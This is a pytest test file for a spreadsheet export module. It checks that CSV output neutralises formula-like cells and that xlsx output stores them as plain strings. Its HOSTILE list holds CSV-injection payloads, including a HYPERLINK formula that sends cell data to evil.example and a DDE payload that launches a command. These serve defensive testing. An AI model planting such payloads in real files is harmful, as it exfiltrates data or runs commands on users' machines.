"""The one CSV/xlsx writer: formula-safe text in CSV (cells and header), text unchanged as string cells in
xlsx (issue #15: ids like ``-2+3`` came back as ``'-2+3``), typed numbers and dates, and tables longer
than an Excel sheet split across sheets with nothing left out."""

from __future__ import annotations

import io
import re
import zipfile

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from workbench.report import files

# Texts a spreadsheet would run as formulas (OWASP's CSV-injection examples and the issue's).
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=2+2"]


def _sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [z.read(n).decode("utf-8") for n in sorted(z.namelist()) if re.match(r"xl/worksheets/sheet\d+\.xml", n)]


def test_csv_neutralises_header_cells_too():
    # issue #15: a header "=HYPERLINK(…)" reached the quarantine CSV as it was
    df = pd.DataFrame({'=HYPERLINK("http://x","y")': ["a"], "@cmd": ["b"], "ok": ["=1+1"], "'@cmd": ["c"]})
    text = files.csv_bytes(df).decode("utf-8-sig")
    header = pd.read_csv(io.StringIO(text)).columns.tolist()
    assert header == ["'=HYPERLINK(\"http://x\",\"y\")", "'@cmd", "ok", "'@cmd_2"]  # no column lost to a clash
    assert "'=1+1" in text
    assert list(df.columns)[0].startswith("=")  # the caller's frame keeps its names


def test_xlsx_writes_ids_and_text_unchanged_as_string_cells():
    df = pd.DataFrame({"customer_id": HOSTILE + ["00123", "张三"], "n": np.arange(8, dtype=float)})
    df.loc[2, "n"] = np.nan
    data = files.xlsx_bytes(df)
    sheet = load_workbook(io.BytesIO(data)).active
    ids = [sheet.cell(r, 1) for r in range(2, 10)]
    # a carriage return is stored as the format's escape _x000D_, which Excel decodes and openpyxl leaves
    assert [unescape(c.value) for c in ids] == HOSTILE + ["00123", "张三"]  # no apostrophe, zeros kept
    assert {c.data_type for c in ids} == {"s"}
    assert [sheet.cell(r, 2).value for r in range(2, 10)] == [0, 1, None, 3, 4, 5, 6, 7]  # NaN is a blank cell
    assert all("<f>" not in xml for xml in _sheet_xml(data))  # not one formula in the file
    assert sheet.freeze_panes == "B2"


def test_xlsx_header_cells_are_strings_unchanged():
    df = pd.DataFrame({"=SUM(A1)": [1], "@x": ["y"]})
    sheet = load_workbook(io.BytesIO(files.xlsx_bytes(df))).active
    assert [c.value for c in sheet[1]] == ["=SUM(A1)", "@x"]
    assert {c.data_type for c in sheet[1]} == {"s"}


def test_xlsx_types_dates_booleans_categories():
    df = pd.DataFrame({
        "first_purchase": pd.to_datetime(["2024-01-05", None]),
        "flag": [True, False],
        "tier": pd.Categorical(["gold", None], categories=["gold", "silver"]),
        "count": pd.array([3, None], dtype="Int64"),
        "mixed": ["text", 2.5],
    })
    sheet = load_workbook(io.BytesIO(files.xlsx_bytes(df))).active
    row = [c.value for c in sheet[2]]
    assert row[0].date().isoformat() == "2024-01-05" and sheet.cell(2, 1).number_format == "yyyy-mm-dd"
    assert row[1:] == [True, "gold", 3, "text"]
    assert [c.value for c in sheet[3]] == [None, False, None, None, 2.5]


def test_write_table_xlsx_is_the_download(tmp_path):
    df = pd.DataFrame({"customer_id": ["-2+3", "b"], "x": [1.5, 2.0]})
    out = tmp_path / "t.xlsx"
    files.write_table(df, out)
    assert load_workbook(out).active["A2"].value == "-2+3"


@pytest.mark.parametrize(("rows", "sheets"), [(0, 1), (1, 1), (1_048_575, 1), (1_048_576, 2), (2_097_150, 2),
                                              (2_097_151, 3)])
def test_sheets_needed_at_excels_row_limit(rows, sheets):
    # a sheet holds 1,048,576 rows, one of them the header: 1,048,575 data rows each
    assert files.xlsx_sheets_needed(rows) == sheets


def test_a_table_longer_than_a_sheet_is_split_with_nothing_left_out():
    df = pd.DataFrame({"customer_id": [f"c{i}" for i in range(7)], "v": range(7)})
    book = load_workbook(io.BytesIO(files.xlsx_bytes(df, max_rows=4)))  # 3 data rows per sheet
    assert book.sheetnames == ["customers", "customers (2)", "customers (3)"]
    seen = []
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0] == ("customer_id", "v") and len(rows) <= 4
        seen += [r[0] for r in rows[1:]]
    assert seen == list(df["customer_id"])


@pytest.mark.parametrize(("text", "width"), [("abc", 3), ("客户", 4), ("A客", 3), ("ＡＢ", 4), ("ab\n客户价值", 8),
                                             ("", 0)])
def test_display_width_counts_wide_characters_double(text, width):
    assert files.display_width(text) == width
